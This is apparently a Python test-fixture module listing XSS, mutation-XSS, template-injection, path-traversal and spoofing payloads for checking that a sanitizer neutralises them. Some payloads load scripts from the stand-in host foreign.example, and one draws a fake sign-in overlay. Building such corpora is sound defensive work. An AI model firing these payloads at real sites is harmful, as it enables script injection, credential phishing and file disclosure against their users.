"""About a hundred ways to smuggle a script, a style, a link or a template into a text.

Whatever of them becomes an element carries the attribute ``data-hit``, so that it is noticed even
where the page's policy keeps it from running. ``foreign.example`` is to hear nothing.
"""

from __future__ import annotations

RUN = "data-hit=1 {0}=alert(1)"
IMG = f"<img src=x {RUN.format('onerror')}>"

#: Elements that begin something by themselves, with the handler they call.
ELEMENTS = (
    "img src=x onerror", "img src=1 onload", "svg onload", "svg/onload", "video src=x onerror",
    "audio src=x onerror", "body onload", "body onpageshow", "input autofocus onfocus",
    "select autofocus onfocus", "textarea autofocus onfocus", "details open ontoggle",
    "marquee onstart", "iframe onload", "object data=x onerror", "embed src=x onload",
    "link rel=stylesheet href=x onerror", "style onload", "script src=x onerror",
    "div contenteditable autofocus onfocus", "xss tabindex=1 autofocus onfocus",
    "p style=animation:x onanimationstart", "video><source onerror", "IMG SRC=x OnErRoR",
    "img/src=x/onerror", "img\tsrc=x\tonerror", "img\nsrc=x\nonerror", "a onmouseover",
)  # fmt: skip

#: Elements that run, load or lead somewhere without a handler.
PLAIN = (
    "<script data-hit>alert(1)</script>",
    "<ScRiPt data-hit>alert(1)</sCrIpT>",
    "<script/data-hit>alert(1)//",
    "<<script data-hit>alert(1)//<</script>",
    "<script data-hit src=//foreign.example/x.js></script>",
    "<script data-hit type=module>import('//foreign.example/m.js')</script>",
    "<svg data-hit><script>alert(1)</script></svg>",
    "<svg data-hit><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg data-hit><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg data-hit><use href=//foreign.example/x.svg#a /></svg>",
    "<svg data-hit><image href=//foreign.example/x.png /></svg>",
    "<math data-hit href=javascript:alert(1)>x</math>",
    "<iframe data-hit src=javascript:alert(1)></iframe>",
    "<iframe data-hit srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe data-hit src=//foreign.example/></iframe>",
    "<object data-hit data=javascript:alert(1)></object>",
    "<embed data-hit src=//foreign.example/x.swf>",
    "<form data-hit action=javascript:alert(1)><input type=submit></form>",
    "<button data-hit form=x formaction=javascript:alert(1)>x</button>",
    "<meta data-hit http-equiv=refresh content='0;url=//foreign.example/'>",
    "<base data-hit href=//foreign.example/>",
    "<link data-hit rel=stylesheet href=//foreign.example/x.css>",
    "<link data-hit rel=prefetch href=//foreign.example/x>",
    "<style data-hit>@import '//foreign.example/x.css';</style>",
    "<div data-hit style='background:url(//foreign.example/x.png)'>x</div>",
    "<p data-hit style='position:fixed;inset:0;z-index:99999'>Sign in again</p>",
    "<table data-hit background=//foreign.example/x.png><tr><td>x</table>",
    "<img data-hit src=//foreign.example/pixel.png>",
    "<img data-hit srcset='//foreign.example/x.png 2x'>",
    "<a data-hit href=javascript:alert(1)>x</a>",
    "<a data-hit href='java\tscript:alert(1)'>x</a>",
    "<a data-hit href=data:text/html,alert(1)>x</a>",
    "<template data-hit shadowrootmode=open><script>alert(1)</script></template>",
)

#: Ends of what a text may stand in, each followed by an element.
ENDS = (
    '">', "'>", "`>", "-->", "]]>", "*/", "</title>", "</textarea>", "</style>", "</script>",
    "</noscript>", "</template>", "</select>", "</iframe>", "</svg>", "</xmp>", "\\\">", "});",
)  # fmt: skip

#: What turns into something else when a page is read, written and read again.
MUTATIONS = (
    f'<noscript><p title="</noscript>{IMG}">',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMG}'>",
    f"<svg></p><style><a id='</style>{IMG}'>",
    f"<form><math><mtext></form><form><mglyph><style></math>{IMG}",
    f"<svg><style>&lt;img src=x {RUN.format('onerror')}&gt;",
    f"<select><template><style><!--</style>{IMG}--></template></select>",
    f"<xmp><p title='</xmp>{IMG}'>",
    f"<b><p><b><table><td></b>{IMG}",
    f"&lt;img src=x {RUN.format('onerror')}&gt;",
    f"&#60;img src=x {RUN.format('onerror')}&#62;",
    "%3Cimg%20src=x%20data-hit%20onerror=alert(1)%3E",
    "\\u003cimg src=x data-hit onerror=alert(1)\\u003e",
    "\\x3cimg src=x data-hit onerror=alert(1)\\x3e",
    f"＜img src=x {RUN.format('onerror')}＞",
    f"\u2039img src=x {RUN.format('onerror')}\u203a",
)

#: Words that a template would fill in, a formula compute, a log obey, an eye misread.
WORDS = (
    "{{7*7}}", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{7*7}", "<%= 7*7 %>",
    "{% debug %}", "{{''.__class__.__mro__}}", "%(password)s", "{0.__class__}", "[[7*7]]",
    "$t(login.title)", "{{name}}", "=HYPERLINK(\"//foreign.example\")", "@import x", "__proto__",
    "constructor", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "//foreign.example/", "../../etc/passwd", "a\u202egpj.exe", "a\u2066b\u2069c", "a\u200bb",
    '" onmouseover="alert(1)" x="', "' autofocus onfocus='alert(1)' x='",
    "\" style=\"background:url(//foreign.example/x)\" x=\"",
)  # fmt: skip

VECTORS = (
    *(f"<{one}=alert(1) data-hit=1>" for one in ELEMENTS),
    *PLAIN,
    *(end + IMG for end in ENDS),
    *MUTATIONS,
    *WORDS,
)

#: Addresses that are no addresses of pages.
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "javascript&colon;alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "blob:x", "file:///etc/passwd", "\x01javascript:x",
    "http://a@javascript:alert(1)", "https://foreign.example/\" onmouseover=\"alert(1)",
)  # fmt: skip
